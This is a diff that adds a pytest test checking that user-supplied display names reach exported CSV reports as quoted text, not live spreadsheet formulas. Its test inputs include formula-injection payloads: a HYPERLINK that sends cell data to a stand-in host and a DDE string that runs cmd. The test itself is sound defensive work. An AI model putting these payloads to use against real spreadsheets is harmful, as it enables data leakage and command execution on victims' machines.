@@ -113,6 +113,22 @@ def test_report_csv_tables_parse(closed_session, player_client):
     assert bad.status_code == 400 and bad["Content-Type"] == "application/problem+json"
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A2,"Ann")',
+                                  "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"])
+def test_csv_cells_never_run_as_formulas(closed_session, player_client, owner_client, name):
+    # a display name typed by an owner must reach the treasurer's spreadsheet as text
+    assert owner_client.patch("/api/v1/clubs/oak/members/ann/", {"display_name": name},
+                              format="json").status_code == 200
+    players = list(csv.DictReader(io.StringIO(player_client.get(
+        url(closed_session, "report"), {"format": "csv"}).content.decode())))
+    ann = next(r for r in players if r["player"] == "ann")
+    assert ann["display_name"] == "'" + name
+    assert ann["result_money"] == "-30.25"  # a negative figure is a figure, not a formula
+    results = list(csv.DictReader(io.StringIO(player_client.get(
+        "/api/v1/clubs/oak/results", {"format": "csv"}).content.decode())))
+    assert next(r for r in results if r["player"] == "ann")["display_name"] == "'" + name
+
+
 def test_report_pdf(closed_session, viewer_client):
     response = viewer_client.get(url(closed_session, "report"), {"format": "pdf"})
     assert response.status_code == 200
